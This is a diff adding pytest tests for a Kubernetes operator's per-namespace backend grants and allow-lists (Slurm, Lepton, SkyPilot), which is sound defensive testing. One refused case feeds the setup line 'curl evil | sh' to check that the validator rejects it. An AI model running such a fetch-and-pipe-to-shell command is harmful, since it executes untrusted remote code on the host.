@@ -1,0 +1,85 @@
+"""Backends granted per namespace, and the allow-lists of what a tenant may choose there (#13.1)."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from kuberun.resource import LeptonExecutor, SkypilotExecutor, SlurmExecutor
+from kuberun_operator import grants
+from kuberun_operator.backend_config import BackendConfig, LeptonWorkspace, SkypilotConfig, SlurmCluster
+
+SLURM = SlurmCluster.model_validate({"name": "dgx", "host": "login", "partition": "batch", "account": "research",
+                                     "allowedNamespaces": ["team-a", "lab-*"], "allowedPartitions": ["debug"],
+                                     "allowedAccounts": ["shared"], "allowedQos": ["normal"]})
+
+
+def slurm(**fields: Any) -> SlurmExecutor:
+    return SlurmExecutor.model_validate({"cluster": "dgx", **fields})
+
+
+ALLOWED = {
+    "granted by name, defaults": ("team-a", {}),
+    "granted by pattern": ("lab-vision", {}),
+    "the admin's own defaults named explicitly": ("team-a", {"partition": "batch", "account": "research"}),
+    "allow-listed choices": ("team-a", {"partition": "debug", "account": "shared", "qos": "normal"}),
+}
+REFUSED = {
+    "namespace not granted": ("team-b", {}, "namespace 'team-b' may not use Slurm cluster 'dgx': it is not in the backend's allowedNamespaces"),
+    "pattern does not match a prefix only": ("lab", {}, "not in the backend's allowedNamespaces"),
+    "partition": ("team-a", {"partition": "gpu-prio"}, "partition 'gpu-prio' is not allowed here (allowed: batch, debug)"),
+    "account": ("team-a", {"account": "finance"}, "account 'finance' is not allowed here (allowed: research, shared)"),
+    "qos": ("team-a", {"qos": "high"}, "qos 'high' is not allowed here (allowed: normal)"),
+    "setup lines": ("team-a", {"setup": ["curl evil | sh"]}, "setup lines are not allowed on this cluster"),
+}
+
+
+@pytest.mark.parametrize(("namespace", "fields"), ALLOWED.values(), ids=ALLOWED.keys())
+def test_slurm_allows_granted_namespaces_and_listed_choices(namespace, fields):
+    grants.check_slurm(SLURM, slurm(**fields), namespace)
+
+
+@pytest.mark.parametrize(("namespace", "fields", "message"), REFUSED.values(), ids=REFUSED.keys())
+def test_slurm_refuses_with_backend_not_allowed_naming_namespace_and_backend(namespace, fields, message):
+    with pytest.raises(grants.BackendNotAllowed) as caught:
+        grants.check_slurm(SLURM, slurm(**fields), namespace)
+    assert caught.value.reason == "BackendNotAllowed" and caught.value.permanent
+    assert message in caught.value.message
+    assert f"namespace {namespace!r}" in caught.value.message and "Slurm cluster 'dgx'" in caught.value.message
+
+
+def test_the_default_is_deny_for_every_backend_and_star_is_the_explicit_grant():
+    config = BackendConfig.model_validate({"slurm": {"clusters": [{"name": "c", "host": "h"}]},
+                                           "lepton": {"workspaces": [{"name": "w", "url": "http://l.invalid"}]},
+                                           "skypilot": {"endpoint": "http://s.invalid"}})
+    lepton = LeptonExecutor(resource_shape="cpu.small")
+    checks = [lambda: grants.check_slurm(config.slurm.clusters[0], slurm(), "default"),
+              lambda: grants.check_lepton(config.lepton.workspaces[0], lepton, "default"),
+              lambda: grants.check_skypilot(config.skypilot, SkypilotExecutor(), "default")]  # type: ignore[arg-type]
+    for check in checks:
+        with pytest.raises(grants.BackendNotAllowed):
+            check()
+    cluster = config.slurm.clusters[0].model_copy(update={"allowed_namespaces": ["*"]})
+    grants.check_slurm(cluster, slurm(), "anything")
+
+
+def test_lepton_secrets_and_node_groups_are_allow_listed():
+    ws = LeptonWorkspace.model_validate({"name": "prod", "url": "http://l.invalid", "allowedNamespaces": ["a"],
+                                         "allowedSecrets": ["hf-*"], "allowedNodeGroups": ["ng-a"]})
+    ok = LeptonExecutor(resource_shape="gpu", node_group="ng-a", secret_env=[{"name": "T", "secret": "hf-team-a"}])
+    grants.check_lepton(ws, ok, "a")
+    for bad, words in ((ok.model_copy(update={"node_group": "ng-b"}), "node group 'ng-b'"),
+                       (LeptonExecutor(resource_shape="gpu", secret_env=[{"name": "K", "secret": "prod-db"}]),
+                        "secret 'prod-db'")):
+        with pytest.raises(grants.BackendNotAllowed, match=words):
+            grants.check_lepton(ws, bad, "a")
+
+
+def test_skypilot_cluster_mode_targets_only_listed_clusters():
+    config = SkypilotConfig.model_validate({"endpoint": "http://s.invalid", "allowedNamespaces": ["a"],
+                                            "allowedClusters": ["team-a-*"]})
+    grants.check_skypilot(config, SkypilotExecutor(mode="cluster", cluster_name="team-a-dev"), "a")
+    grants.check_skypilot(config, SkypilotExecutor(), "a")  # managed jobs name no cluster
+    with pytest.raises(grants.BackendNotAllowed, match="cluster 'team-b-dev' is not allowed"):
+        grants.check_skypilot(config, SkypilotExecutor(mode="cluster", cluster_name="team-b-dev"), "a")
